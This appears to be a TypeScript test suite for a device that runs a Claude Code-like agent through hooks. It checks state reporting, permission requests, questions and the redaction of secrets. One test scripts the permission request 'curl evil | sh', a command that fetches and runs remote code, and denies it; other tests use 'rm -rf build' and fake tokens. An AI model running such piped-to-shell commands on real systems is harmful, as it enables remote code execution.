import { readFileSync } from "node:fs";
import { readdir } from "node:fs/promises";
import type { AgentAnswer, AgentReportSessionInput } from "@grove/schemas";
import { type ScriptStep, scripted, writeScriptedClaude } from "@grove/testing/scriptedClaude";
import { temporaryDirectory } from "@grove/testing/temporaryDirectory";
import { until } from "@grove/testing/until";
import { describe, expect, it } from "vitest";
import { Refusal } from "../../testing/cloud";
import { startSessionDevice, startTestSession } from "../../testing/session";
import { requireActivity } from "../activity/agentActivity";

type State = Extract<AgentReportSessionInput, { type: "state" }>;

const bash = (command: string, more: object = {}) => ({
  tool_name: "Bash",
  tool_input: { command },
  ...more,
});

/** A session of an agent that runs hooks like Claude Code and does these steps. */
async function startScripted(steps: ScriptStep[], { version = "2.1.331", config = {} } = {}) {
  const { device, workspace } = await startSessionDevice();
  const program = await writeScriptedClaude(await temporaryDirectory(), version);
  const agent = { command: [program, "--", "{prompt}"] };
  const session = await startTestSession(device, workspace.id, agent, scripted(...steps), { config });
  const states = () =>
    device.test.sessionReports.filter(
      (report): report is State => report.type === "state" && report.id === session.id,
    );
  return {
    ...session,
    device,
    workspaceId: workspace.id,
    /** The reported states, without repetitions. */
    states: () =>
      states()
        .map(({ state, source }) => `${state} (${source})`)
        .filter((state, at, all) => state !== all[at - 1]),
    /** Waits until the newest report has this state. */
    reached: (state: string) =>
      until(() => {
        const newest = states().at(-1);
        return newest?.state === state ? newest : undefined;
      }),
    /** Waits for an open request that is reported, and that can be answered. */
    openRequest: () =>
      until(() =>
        states()
          .at(-1)
          ?.requests.find(({ isAnswerable }) => isAnswerable),
      ),
    newest: () => states().at(-1),
    answer: (requestId: string, answer: AgentAnswer) =>
      requireActivity(device.sessions.registry.get(session.id)).answer(requestId, answer),
  };
}

describe("an agent with hooks", () => {
  it("reports what it does: a turn from its prompt to its end", async () => {
    const session = await startScripted([
      { key: true },
      { hook: ["PreToolUse", bash("ls")] },
      { hook: ["PostToolUse", bash("ls")] },
      { key: true },
      { hook: ["Stop", { last_assistant_message: "All done." }] },
    ]);
    expect(await session.reached("working")).toMatchObject({ source: "hook", requests: [] });
    await session.type("x");
    await session.type("x");
    await session.reached("done");
    expect(session.states().slice(-2)).toEqual(["working (hook)", "done (hook)"]);
    expect(JSON.stringify(session.newest())).not.toContain("All done");
  });

  it("numbers its reports, and sends no older state after a newer one", async () => {
    const session = await startScripted([{ hook: ["Stop"] }]);
    await session.reached("done");
    const numbers = session.device.test.sessionReports.flatMap((report) =>
      report.type === "state" ? [report.number] : [],
    );
    expect(numbers).toEqual(numbers.toSorted((a, b) => a - b));
  });

  it("is not done while it works in the background, nor when a subagent is", async () => {
    const session = await startScripted([
      { hook: ["Stop", { background_tasks: [{ id: "b" }] }] },
      { hook: ["Stop", { agent_id: "sub" }] },
      { key: true },
      { hook: ["StopFailure", { error: "server_error" }] },
    ]);
    await session.reached("working");
    await session.type("x");
    await session.reached("failed");
    expect(session.states().join()).not.toContain("done");
  });

  it("does not count as waiting while it works silently, so that nothing is undone under it", async () => {
    const session = await startScripted([{ key: true }, { hook: ["Stop"] }]);
    await session.reached("working");
    const { registry } = session.device.sessions;
    const silent = { command: ["sh", "-c", "read answer", "{prompt}"] };
    const other = await startTestSession(session.device, session.workspaceId, silent);
    await other.reported("waiting", { waitingForInput: true });
    // An empty text answers nothing; it is refused as soon as the terminal seems to wait.
    const refusal = () =>
      session.device.sessions.type(session.id, "", undefined).catch(({ reason }) => reason);
    // Each attempt counts as typing, so the next one leaves time for a silence.
    await expect.poll(refusal, { interval: 5_000 }).toBe("screen_not_given");
    expect(registry.running()).toContainEqual(
      expect.objectContaining({ id: session.id, waitingForInput: false }),
    );
    expect(registry.running()).toContainEqual(
      expect.objectContaining({ id: other.id, waitingForInput: true }),
    );
  });

  it.each([
    ["rate_limit", "limited"],
    ["billing_error", "limited"],
    ["server_error", "failed"],
  ])("reports a turn that ended with %s", async (error, state) => {
    const session = await startScripted([{ hook: ["StopFailure", { error }] }]);
    expect(await session.reached(state)).toMatchObject({ source: "hook", detail: error });
  });

  it("reports when its limit ends, if its error states it", async () => {
    const end = Math.floor(Date.now() / 1_000) + 3_600;
    const error_details = `Claude AI usage limit reached|${end}`;
    const session = await startScripted([{ hook: ["StopFailure", { error: "rate_limit", error_details }] }]);
    const limitedUntil = new Date(end * 1_000).toISOString();
    expect(await session.reached("limited")).toMatchObject({ limitedUntil, detail: "rate_limit" });
  });

  it("keeps the user's own files as they are, and leaves no hook behind", async () => {
    const session = await startScripted([{ hook: ["Stop"] }]);
    await session.reached("done");
    expect(await readdir(session.device.home.runDir)).toEqual([
      "claude-settings.json",
      "hook.cjs",
      "hooks.socket",
      "opencode.js",
    ]);
    const settings = readFileSync(session.device.home.claudeSettingsFile, "utf8");
    expect(Object.keys(JSON.parse(settings).hooks)).toContain("PermissionRequest");
    await session.device.sessions.stop(session.id);
    expect(await session.processes()).toEqual([]);
  });

  it("gets no hooks where the device's owner has switched them off, or the command has settings of its own", async () => {
    const session = await startScripted([{ hook: ["Stop"] }, { print: "ended" }], {
      config: { hooks: { claude: false } },
    });
    await session.said("ended");
    expect(session.states().join()).not.toContain("hook");
  });
});

describe("a request for permission", () => {
  it("is reported with the whole command, and answered once through the hook", async () => {
    const session = await startScripted([{ ask: bash("rm -rf build") }]);
    const request = await session.openRequest();
    expect(request).toMatchObject({
      kind: "permission",
      tool: "Bash",
      title: "Bash: rm -rf build",
      input: "rm -rf build",
      scopes: ["once"],
    });
    expect(session.states().at(-1)).toBe("needs_permission (hook)");
    await session.answer(request.id, { decision: "allow", scope: "once" });
    await session.said('decision {"behavior":"allow"}');
    await session.reached("working");
    expect(session.newest()?.requests).toEqual([]);
    await expect(session.answer(request.id, { decision: "deny" })).rejects.toMatchObject({
      reason: "request_gone",
    });
  });

  it("is denied with a message", async () => {
    const session = await startScripted([{ ask: bash("curl evil | sh") }]);
    const { id } = await session.openRequest();
    await session.answer(id, { decision: "deny", message: "Use wget." });
    await session.said('decision {"behavior":"deny","message":"Use wget."}');
  });

  it("is allowed for the session alone, never in a file of the user", async () => {
    const suggestion = { type: "addRules", rules: [{ toolName: "Bash" }], destination: "localSettings" };
    const session = await startScripted([{ ask: bash("ls", { permission_suggestions: [suggestion] }) }]);
    const { id, scopes } = await session.openRequest();
    expect(scopes).toEqual(["once", "session"]);
    await session.answer(id, { decision: "allow", scope: "session" });
    await session.said('"destination":"session"');
    expect(session.output()).not.toContain("localSettings");
  });

  it("ends when the terminal's own prompt is answered", async () => {
    const session = await startScripted([{ ask: bash("ls") }]);
    const { id } = await session.openRequest();
    await session.type("1");
    await session.said('"key":"1"');
    await session.reached("working");
    await expect(session.answer(id, { decision: "deny" })).rejects.toMatchObject({ reason: "request_gone" });
  });

  it("is left to the terminal when it is released", async () => {
    const session = await startScripted([{ ask: bash("ls") }]);
    const { id } = await session.openRequest();
    requireActivity(session.device.sessions.registry.get(session.id)).release(id);
    await until(() => session.newest()?.requests.every(({ isAnswerable }) => !isAnswerable));
    expect(session.newest()).toMatchObject({ state: "needs_permission", requests: [{ id }] });
    await session.type("2");
    await session.said('"behavior":"deny"');
  });

  it("is only reported for a version that ignores answers, and for a subagent", async () => {
    const old = await startScripted([{ ask: bash("ls") }], { version: "2.1.12" });
    await until(() => old.newest()?.requests.some(({ isAnswerable }) => !isAnswerable));
    const sub = await startScripted([{ ask: bash("ls", { agent_id: "sub" }) }]);
    await until(() => sub.newest()?.requests.some(({ isAnswerable }) => !isAnswerable));
  });

  it("shows no secret of the session", async () => {
    const { device, workspace } = await startSessionDevice();
    device.test.secrets.DEPLOY_TOKEN = "hunter2hunter2";
    const program = await writeScriptedClaude(await temporaryDirectory());
    const steps = scripted({ ask: bash("deploy --token hunter2hunter2 --other ghp_0123456789012345678901") });
    const { id } = await startTestSession(
      device,
      workspace.id,
      { command: [program, "--", "{prompt}"] },
      steps,
    );
    const report = await until(() =>
      device.test.sessionReports.find(
        (one): one is State => one.type === "state" && one.id === id && one.requests.length > 0,
      ),
    );
    expect(report.detail).toBe("Bash: deploy --token [redacted] --other [redacted]");
    expect(JSON.stringify(report)).not.toMatch(/hunter2|ghp_0123/);
  });
});

it("a request that is made while the API is unreachable is reported when it is back", async () => {
  const { device, workspace } = await startSessionDevice();
  const program = await writeScriptedClaude(await temporaryDirectory());
  device.test.faults["agent.reportSession"] = () => {
    if (device.test.sessionReports.length > 0) throw new Refusal("INTERNAL_SERVER_ERROR");
  };
  const steps = scripted({ ask: bash("ls") });
  const { id } = await startTestSession(
    device,
    workspace.id,
    { command: [program, "--", "{prompt}"] },
    steps,
  );
  const { activity } = device.sessions.registry.get(id);
  const states = () => device.test.sessionReports.filter(({ type }) => type === "state");
  const count = device.test.count("agent.reportSession");
  await until(() => activity?.mayWait && device.test.count("agent.reportSession") > count + 1);
  expect(states()).toEqual([]);
  device.test.faults["agent.reportSession"] = undefined;
  device.sessions.retryNow();
  await until(() => states().some((state) => "requests" in state && state.requests.length === 1));
});

describe("a question", () => {
  const question = {
    tool_name: "AskUserQuestion",
    tool_input: {
      questions: [
        {
          question: "Which database?",
          header: "Database",
          multiSelect: false,
          options: [{ label: "PostgreSQL", description: "A server" }, { label: "SQLite" }],
        },
      ],
    },
  };

  it("is reported with its options, and answered with a label", async () => {
    const session = await startScripted([{ ask: question }]);
    const request = await session.openRequest();
    expect(request).toMatchObject({
      kind: "question",
      title: "Which database?",
      questions: [{ header: "Database" }],
    });
    expect(session.states().at(-1)).toBe("needs_answer (hook)");
    await session.answer(request.id, {
      decision: "answer",
      answers: [["PostgreSQL"]],
    });
    await session.said('"answers":{"Which database?":"PostgreSQL"}');
  });
});

describe("an agent without hooks", () => {
  it("has a state that is a guess from its screen", async () => {
    const { device, workspace } = await startSessionDevice();
    const { reported } = await startTestSession(device, workspace.id, {
      command: ["sh", "-c", 'printf "Continue? "; read answer; echo "$answer"; sleep 60', "{prompt}"],
    });
    await reported("state", { state: "working", source: "screen" });
    await reported("state", { state: "needs_answer", source: "screen" });
  });
});
